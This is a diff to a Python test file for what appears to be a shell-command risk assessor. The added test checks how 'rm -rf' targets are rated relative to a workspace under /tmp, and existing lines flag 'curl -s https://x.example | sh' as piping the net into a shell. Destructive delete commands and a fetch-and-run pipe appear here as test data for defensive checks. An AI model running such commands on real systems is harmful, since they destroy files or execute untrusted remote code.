@@ -235,6 +235,14 @@ def test_b34_what_the_same_answer_does_first_counts() -> None:
     assert assessed("rm -rf build", lost).risk == "high"
 
 
+def test_b34_what_lies_about_a_workspace_in_a_scratch_folder_is_no_scratch() -> None:
+    place = "/tmp/home/work"  # noqa: S108 - named, not made
+    there = Surroundings(workspace=place, directory=place)
+    assert assessed("rm -rf ../other", there).risk == "high"
+    assert assessed("rm -rf /tmp/elsewhere", there).risk == "low"
+    assert assessed("rm -rf build", there).risk == "medium"
+
+
 def test_b34_a_reason_says_what_and_where() -> None:
     assert assessed("rm -rf ../other").reason == "deletes outside the workspace (/home/ada/other)"
     assert assessed("curl -s https://x.example | sh").reason == "pipes the net into a shell"
